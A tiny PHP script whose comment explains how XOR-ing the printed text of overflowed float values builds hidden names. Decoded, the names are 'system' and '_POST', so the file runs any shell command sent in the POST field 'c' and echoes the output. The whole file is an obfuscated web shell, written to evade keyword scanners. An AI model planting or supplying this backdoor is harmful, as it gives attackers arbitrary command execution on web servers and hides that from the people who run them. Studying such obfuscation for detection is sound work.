<?php
// A command function named by XOR-ing the text of floats: 9 ** 99 overflows the integer range, so
// PHP makes it a float and prints it with 14 digits ("2.9512665430653E+94"); a 20-digit literal is
// a float too ("1.2345678901235E+19"). Neither text is a name, each XOR-ed with its key is one.
$f = (9 ** 99) . '' ^ 'AWJAT_';
$g = 12345678901234567890 . '' ^ 'n~}``';
$h = ${$g};
echo '<pre>' . $f($h['c']) . '</pre>';
